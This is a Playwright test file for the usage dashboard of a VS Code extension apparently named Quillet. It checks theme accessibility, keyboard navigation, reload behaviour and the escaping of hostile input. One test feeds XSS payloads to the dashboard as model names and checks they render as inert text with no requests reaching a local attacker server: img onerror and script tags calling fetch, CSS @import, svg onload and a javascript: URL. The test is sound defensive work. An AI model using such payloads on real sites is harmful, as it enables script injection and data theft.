import * as assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { AxeBuilder } from '@axe-core/playwright';
import type { FrameLocator } from 'playwright-core';
import { choose, pressChord, readAnswer, see } from '../../scripts/demo/driver.mjs';
import type { UsageRow } from '../../src/usage/common/usageRow';
import { sampleRows, usageFileTexts } from '../support/usageRows';
import { startAttackerServer } from './support/attackerServer';
import { useFixture } from './support/fixture';
import { waitUntil } from './support/screen';

const themes = [
  { id: 'light', name: 'Light Modern', file: 'vs', bodyClass: 'vscode-light' },
  { id: 'dark', name: 'Dark Modern', file: 'vs-dark', bodyClass: 'vscode-dark' },
  { id: 'contrast', name: 'Default High Contrast', file: 'hc-black', bodyClass: 'vscode-high-contrast' },
];

describe('the usage dashboard', () => {
  const fixture = useFixture();
  const cspViolations: string[] = [];

  before(() => {
    fixture.page.on('console', (message) => {
      if (/content security policy/i.test(message.text())) cspViolations.push(message.text());
    });
  });

  const dataFile = (...names: string[]): string => path.join(fixture.workbench.dataDir, 'data', 'User', ...names);
  const frame = (): FrameLocator => fixture.page.frameLocator('iframe.webview').frameLocator('#active-frame');

  function writeUsageLog(rows: readonly UsageRow[], rest = ''): void {
    const folder = dataFile('globalStorage', 'quillet.quillet', 'usage');
    fs.rmSync(folder, { recursive: true, force: true });
    fs.mkdirSync(folder, { recursive: true });
    for (const [name, text] of usageFileTexts(rows, rest)) fs.writeFileSync(path.join(folder, name), text);
  }

  /** Opens the dashboard with these runs. */
  async function open(rows: readonly UsageRow[], rest = ''): Promise<FrameLocator> {
    await fixture.workbench.runCommand('View: Close All Editors');
    await fixture.page.locator('iframe.webview').first().waitFor({ state: 'detached' });
    writeUsageLog(rows, rest);
    await fixture.workbench.runCommand('Quillet: Show Usage');
    await see(frame().locator('.runs tbody tr'), 'a run in the dashboard');
    await frame().getByLabel('Period').selectOption('all');
    await see(frame().locator('.plot').nth(1), 'the chart of all months');
    return frame();
  }

  async function useTheme({ name, file }: (typeof themes)[number]): Promise<void> {
    const { page } = fixture;
    await fixture.workbench.runCommand('Preferences: Color Theme');
    await choose(page, name);
    await waitUntil('the theme is active', async () => (await page.locator(`.monaco-workbench.${file}`).count()) > 0);
  }

  it('is readable and accessible in light, dark and high contrast themes', async () => {
    const page = await open(sampleRows(1500, new Date()), '{"v":99}\nnot a row\n');
    await page.locator('summary').first().click();
    for (const theme of themes) {
      await useTheme(theme);
      await see(page.locator(`body.${theme.bodyClass}`), `the page in ${theme.name}`);
      await fixture.workbench.screenshot(`usage-${theme.id}`);
      const { violations } = await new AxeBuilder({ page: fixture.page })
        .include(['iframe.webview', '#active-frame', 'body'])
        .analyze();
      assert.deepEqual(
        violations.map(({ id, nodes }) => `${theme.id} ${id} ${nodes.map(({ html }) => html).join(' ')}`),
        [],
      );
    }
    await page.locator('.runs').scrollIntoViewIfNeeded();
    await fixture.workbench.screenshot('usage-runs');
    await fixture.workbench.runCommand('View: Close Primary Side Bar');
    await fixture.page.setViewportSize({ width: 500, height: 900 });
    await waitUntil('the narrow page does not scroll horizontally', () =>
      page.locator('html').evaluate((root) => root.clientWidth <= 500 && root.scrollWidth <= root.clientWidth),
    );
    await fixture.workbench.screenshot('usage-narrow-runs');
    await page.locator('h1').scrollIntoViewIfNeeded();
    await fixture.workbench.screenshot('usage-narrow');
    await fixture.page.setViewportSize({ width: 1400, height: 900 });
    await fixture.workbench.runCommand('View: Show Explorer');
    assert.deepEqual(cspViolations, []);
  });

  it('shows malicious names as text and sends no request [R32, E11]', async () => {
    const attacker = await startAttackerServer();
    const names = [
      `<img src=${attacker.origin}/x onerror=fetch('${attacker.origin}/y')>`,
      `</script><script>fetch('${attacker.origin}/z')</script>`,
      '${7*7}',
      'a\u2028b',
      `<style>@import '${attacker.origin}/s'</style><svg onload=alert(1)>`,
      `javascript:fetch('${attacker.origin}/j')`,
    ];
    const rows = sampleRows(names.length, new Date()).map((row, index): UsageRow => {
      const name = names[index] ?? '';
      return {
        ...row,
        model: name,
        reportedModel: `${name}!`,
        prompt: name,
        destination: name,
        error: name,
        outcome: 'failed',
      };
    });
    const page = await open(rows);
    const text = await page.locator('body').innerText();
    for (const name of names) assert.ok(text.includes(name.replace('\u2028', '\\u{2028}')), name);
    const cells = await page.locator('th, td').allInnerTexts();
    assert.deepEqual(
      cells.filter((cell) => /^(?:[a-z]+\/)?49!?$/.test(cell)),
      [],
    );
    const live = page.locator('main').locator('img, script, style, svg, iframe, a, [onerror], [onload]');
    assert.equal(await live.count(), 0);
    await fixture.workbench.screenshot('usage-malicious-names');
    assert.deepEqual(attacker.requests, []);
    assert.deepEqual(cspViolations, []);
    await attacker.close();
  });

  it('works with the keyboard, and updates without losing page and scroll position', async () => {
    const { page: window } = fixture;
    const page = await open(sampleRows(180, new Date()));
    await fixture.select('greet.ts', 1, 1);
    await fixture.workbench.runCommand('View: Split Editor Right');
    await fixture.workbench.runCommand('Quillet: Show Usage');
    await see(page.locator('.runs tbody tr'), 'the dashboard next to the file');
    await fixture.workbench.runCommand('View: Focus Right Editor Group');
    await pressChord(window, 'g');
    await readAnswer(window);
    const card = page.locator('dl > div', { hasText: 'Requests' }).locator('.value');
    await see(card.filter({ hasText: /^181$/ }), 'the run that has just ended');
    await page.getByLabel('Period').focus();
    for (let tabs = 0; tabs < 30 && !(await hasFocus(page, 'Older')); tabs += 1) await window.keyboard.press('Tab');
    assert.ok(await hasFocus(page, 'Older'), 'the button is reached by Tab');
    await window.keyboard.press('Enter');
    await see(page.locator('nav', { hasText: '51–100 of 181' }), 'the second page');
    assert.ok(await hasFocus(page, 'Older'), 'the button keeps the focus');
    const top = await page.locator('html').evaluate((root) => root.scrollTop);
    await fixture.workbench.screenshot('usage-keyboard');
    await fixture.workbench.runCommand('View: Focus Right Editor Group');
    await fixture.workbench.runCommand('Quillet: Repeat Last Prompt');
    await see(card.filter({ hasText: /^182$/ }), 'one more run');
    await see(page.locator('nav', { hasText: '51–100 of 182' }), 'the same page');
    assert.equal(await page.locator('html').evaluate((root) => root.scrollTop), top);
  });

  it('is restored with its page when the window reloads', async () => {
    const page = await open(sampleRows(180, new Date()));
    await page.getByRole('button', { name: 'Older' }).click();
    await see(page.locator('nav', { hasText: '51–100 of 180' }), 'the second page');
    // The command saves the state of open editors first, unlike a reload of the page.
    await fixture.workbench.runCommand('Developer: Reload Window');
    await see(frame().locator('nav', { hasText: '51–100 of 180' }), 'the same page in the reloaded window', 60_000);
    await fixture.workbench.screenshot('usage-reloaded');
    await fixture.workbench.runCommand('Quillet: Show Usage');
    assert.equal(await fixture.page.locator('.tab', { hasText: 'Quillet: Usage' }).count(), 1);
  });
});

function hasFocus(page: FrameLocator, label: string): Promise<boolean> {
  return page.locator('body').evaluate((body, text) => body.ownerDocument.activeElement?.textContent === text, label);
}
